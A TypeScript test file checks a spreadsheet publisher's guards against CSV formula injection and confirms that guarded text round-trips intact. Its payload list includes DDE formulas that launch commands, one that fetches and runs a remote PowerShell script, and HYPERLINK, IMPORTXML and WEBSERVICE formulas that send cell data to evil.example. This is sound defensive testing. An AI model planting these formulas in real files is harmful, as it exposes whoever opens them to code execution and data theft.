import assert from 'node:assert/strict';
import { describe, it } from 'node:test';
import fc from 'fast-check';
import { stringify } from 'csv-stringify/sync';
import { guardCsvText, guardWorkbookText, unguardText } from '../../../src/publisher/sheets/guard-text.js';
import { retypeCell } from './retype-cell.js';

/** From OWASP’s “CSV Injection”, its testing guide, and reports of the kind. */
const payloads = [
  '=1+2',
  '=1+2";=1+2',
  `=1+2'" ;,=1+2`,
  "=cmd|' /C calc'!A0",
  "=cmd|'/C powershell IEX(wget 0r.pe/p)'!A0",
  '=HYPERLINK("https://evil.example/?leak="&A1&B1,"Error: please click")',
  '=IMPORTXML(CONCAT("https://evil.example/", A1), "//a")',
  '=WEBSERVICE("https://evil.example/")',
  '=DDE("cmd";"/C calc";"x")',
  '+1+cmd|" /C calc"!A0',
  '-2+3+cmd|" /C calc"!D2',
  '@SUM(1+1)*cmd|" /C calc"!A0',
  '@SUM(1+9)*cmd',
  '\t=1+2',
  '\r=1+2',
  '\n=1+2',
  '\0=1+2',
  '＝1+2',
  '＋1+2',
  '－1+2',
  '＠SUM(1)',
  '%0A-3+3+cmd|" /C calc"!D2',
  'Fair text;=cmd|" /C calc"!A0',
  'Fair text, =1+2',
  'Fair text\t@SUM(1)',
];

/** Cells as the three separators would cut them, if a spreadsheet took no notice of quotation marks. */
function cutAnyhow(text: string): string[] {
  return text.split(/[,;\t]/).map((part) => part.trim());
}

describe('guards of texts in spreadsheets', () => {
  for (const payload of payloads) {
    it(`keeps ${JSON.stringify(payload)} from running, and gives it back`, () => {
      for (const cell of cutAnyhow(guardCsvText(payload))) assert.doesNotMatch(cell, /^[=+\-@＝＋－＠]/);
      assert.doesNotMatch(guardCsvText(payload), /^[=+\-@\t\r\n\0＝＋－＠]/);
      assert.doesNotMatch(guardWorkbookText(payload), /^[=+\-@\t\r\n\0＝＋－＠]/);
      assert.equal(unguardText(guardCsvText(payload)), payload);
      assert.equal(unguardText(guardWorkbookText(payload)), payload);
    });
  }

  it('guards all that csv-stringify would escape', () => {
    for (const payload of payloads) {
      const escaped = stringify([[payload]], { escape_formulas: true, quote: '', record_delimiter: '' });
      if (escaped.startsWith("'")) assert.equal(guardCsvText(payload)[0], "'", payload);
    }
  });

  it('keeps dates, numbers and truth values texts in a CSV file', () => {
    const texts = [
      '1997',
      '1997-08',
      '1997-08-25',
      '2017-05/2017-08',
      '2017-05/..',
      '007',
      '+62 22 4234793',
      '-6.9175',
    ];
    texts.push(
      '1e5',
      '08:00',
      '8:00 PM',
      '1/2',
      '50%',
      'TRUE',
      'false',
      'BENAR',
      'mar-1',
      'May 2018',
      '25 Agustus 1997',
    );
    texts.push('Rp 5.000', '12.000,50');
    for (const text of texts) {
      assert.equal(retypeCell(guardCsvText(text)), `'${text}`);
      assert.equal(unguardText(guardCsvText(text)), text);
    }
  });

  it('leaves ordinary texts as they are', () => {
    const texts = [
      'Suwon',
      'suwon-1997-08-25-01',
      'In 1997 both cities signed.',
      'bps-2024',
      'https://example.org/?a=1',
      '’s avonds',
    ];
    texts.push("'s-Hertogenbosch", '수원시 1997년', 'Gedung Sate', 'market-hall', 'decree');
    for (const text of texts) {
      assert.equal(guardCsvText(text), text);
      assert.equal(guardWorkbookText(text), text);
    }
  });

  it('leaves dates and coordinates plain in a workbook, whose cells are texts', () => {
    for (const text of ['1997', '1997-08', '-6.9175', '107.6191']) assert.equal(guardWorkbookText(text), text);
  });

  it('gives back every text, also one that begins with an apostrophe', () => {
    const sign = fc.constantFrom(
      "'",
      '=',
      '+',
      '-',
      '@',
      ',',
      ';',
      '\t',
      '\r',
      ' ',
      '1',
      '1997-08',
      'a',
      '"',
      '＝',
      'true',
    );
    const text = fc.oneof(
      fc.array(sign, { maxLength: 12 }).map((signs) => signs.join('')),
      fc.string({ unit: 'grapheme' }),
    );
    fc.assert(
      fc.property(text, (original) => {
        assert.equal(unguardText(guardCsvText(original)), original);
        assert.equal(unguardText(guardWorkbookText(original)), original);
      }),
      { numRuns: 5000 },
    );
  });
});
